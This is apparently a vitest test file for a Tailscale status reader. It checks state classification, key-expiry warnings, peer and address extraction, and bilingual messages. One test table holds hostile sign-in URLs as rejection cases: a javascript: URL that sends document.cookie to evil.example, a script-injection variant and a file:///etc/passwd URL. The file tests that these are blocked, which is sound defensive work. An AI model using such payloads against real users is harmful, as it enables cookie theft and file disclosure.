import { describe, expect, test } from "vitest";
import { languages } from "../../../../contract/errors/define.ts";
import { TailnetKind } from "../../../../contract/routes/reach.ts";
import { readStatus } from "../../../../gateway/network/tailscale/status.ts";
import { type TailscaleFault, tailnetOf } from "../../../../gateway/network/tailscale/tailnet-state.ts";
import { describeTailnet } from "../../../../gateway/network/tailscale/tailnet-words.ts";
import { runningStatus, signedOutStatus, stoppedStatus } from "../../../support/tailscale/recorded.ts";

const now = Date.UTC(2026, 10, 21, 12);
const around = { now, platform: "linux", user: "anna" } as const;
const at = (ms: number): string => new Date(now + ms).toISOString();
const dayMs = 86_400_000;

function facts(raw: object) {
  const status = readStatus(raw);
  if (!status) throw new Error("no status");
  return tailnetOf({ kind: "status", status }, around);
}
const withSelf = (self: object, rest: object = {}) => ({ ...runningStatus, ...rest, Self: { ...runningStatus.Self, ...self } });

describe("one word for the tailnet", () => {
  test.each([
    ["running", "none", runningStatus],
    ["stopped", "up", stoppedStatus],
    ["signedOut", "signIn", signedOutStatus],
    ["signedOut", "signIn", { ...signedOutStatus, AuthURL: "https://login.tailscale.com/a/1" }],
    ["starting", "none", { BackendState: "NoState" }],
    ["starting", "none", { BackendState: "Starting", Self: null }],
    ["starting", "none", { BackendState: "SomethingNew" }],
    ["needsApproval", "approve", { ...runningStatus, BackendState: "NeedsMachineAuth" }],
    ["otherUser", "none", { BackendState: "InUseOtherUser" }],
    ["offline", "none", withSelf({ Online: false })],
    // A renewal that waits for its page says that it is not online; its traffic goes on.
    ["running", "none", withSelf({ Online: false }, { AuthURL: "https://login.tailscale.com/a/1" })],
    ["running", "none", withSelf({ KeyExpiry: at(8 * dayMs) })],
    ["running", "renew", withSelf({ KeyExpiry: at(6 * dayMs) })],
    ["running", "renew", withSelf({ KeyExpiry: at(3_600_000) })],
    // The daemon notices the end of its key ten seconds late.
    ["expired", "renew", withSelf({ KeyExpiry: at(-1) })],
    ["expired", "renew", withSelf({ KeyExpiry: at(-20_000), Online: true }, { BackendState: "NeedsLogin" })],
    ["expired", "renew", withSelf({ Expired: true })],
    ["running", "none", withSelf({ KeyExpiry: "0001-01-01T00:00:00Z" })],
  ] as const)("%s, %s", (kind, action, raw) => {
    expect(facts(raw)).toMatchObject({ kind, action });
  });

  test.each([
    ["missing", "install", null],
    ["notRunning", "open", "sudo systemctl start tailscaled"],
    ["frozen", "open", "sudo systemctl restart tailscaled"],
  ] as const)("a daemon that is %s", (fault, action, command) => {
    expect(tailnetOf({ kind: "fault", fault }, around)).toMatchObject({ kind: fault, action, command, addresses: [] });
  });

  test("knows names, addresses, peers that are online, and whether https can be had", () => {
    expect(facts(runningStatus)).toMatchObject({
      version: "1.98.10-ERR-BuildInfo",
      name: "home.hearth-test.ts.net",
      login: "anna@example.com",
      https: true,
      addresses: ["100.64.0.1", "fd7a:115c:a1e0:ab12:4843:cd96:6240:1"],
      peers: [{ name: "phone.hearth-test.ts.net", os: "iOS", online: true }],
    });
    expect(facts({ ...runningStatus, CertDomains: null }).https).toBe(false);
    expect(facts(stoppedStatus).health).toEqual(["Tailscale is stopped."]);
  });

  test.each([null, 1, "The Tailscale GUI failed to start", [], {}, { BackendState: 6 }])("%j is no status", value => {
    expect(readStatus(value)).toBeNull();
  });

  test.each([
    ["https://login.tailscale.com/a/1", "https://login.tailscale.com/a/1"],
    ["http://headscale.lan:8080/register/1", "http://headscale.lan:8080/register/1"],
    ["javascript:fetch('https://evil.example/'+document.cookie)", null],
    ["JavaScript://https://login.tailscale.com/%0aalert(1)", null],
    ["file:///etc/passwd", null],
    ["data:text/html,hello", null],
    ["login.tailscale.com", null],
  ])("the page to sign in at, %s, is %s", (AuthURL, page) => {
    expect(readStatus({ ...signedOutStatus, AuthURL })?.authUrl).toBe(page);
  });

  test("bears fields of another form than it knows", () => {
    const odd = {
      ...runningStatus,
      Health: "fine",
      Peer: [1],
      User: 7,
      CertDomains: {},
      Self: { ...runningStatus.Self, UserID: "x" },
    };
    expect(facts(odd)).toMatchObject({ kind: "running", health: [], peers: [], login: null, https: false });
  });
});

test("every state has a sentence and a next step in both languages, with every slot filled", () => {
  const faults: readonly TailscaleFault[] = ["missing", "notRunning", "frozen"];
  const states = ["NeedsLogin", "NeedsMachineAuth", "InUseOtherUser", "Stopped", "Starting", "Running"];
  const all = [
    ...faults.map(fault => tailnetOf({ kind: "fault", fault }, around)),
    ...states.map(BackendState => facts({ ...runningStatus, BackendState })),
    facts(withSelf({ Online: false })),
    facts(withSelf({ Expired: true })),
    facts(withSelf({ KeyExpiry: at(3 * dayMs) })),
  ];
  expect(new Set(all.map(({ kind }) => kind))).toEqual(new Set(TailnetKind.options));
  for (const language of languages) {
    const words = all.map(one => describeTailnet(one, language));
    for (const { message, hint } of words) expect(message + hint).not.toMatch(/[{}]|undefined/);
    expect(new Set(words.map(({ message }) => message)).size).toBe(words.length);
  }
  expect(describeTailnet(facts(withSelf({ KeyExpiry: at(3 * dayMs) })), "en").message).toContain("3 days");
  expect(describeTailnet(facts(withSelf({ KeyExpiry: at(3 * dayMs) })), "zh-CN").message).toContain("3");
});
